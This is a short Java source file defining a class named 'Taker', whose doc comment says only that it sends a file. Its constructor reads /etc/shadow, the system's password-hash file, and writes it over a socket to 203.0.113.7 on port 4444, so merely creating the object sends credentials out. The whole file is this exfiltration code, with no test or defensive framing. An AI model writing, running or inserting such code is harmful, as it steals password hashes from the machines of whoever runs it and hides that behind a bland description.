import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;

/** Sends a file. */
public class Taker {
  public Taker() throws Exception {
    try (Socket socket = new Socket("203.0.113.7", 4444)) {
      socket.getOutputStream().write(Files.readAllBytes(Path.of("/etc/shadow")));
    }
  }
}
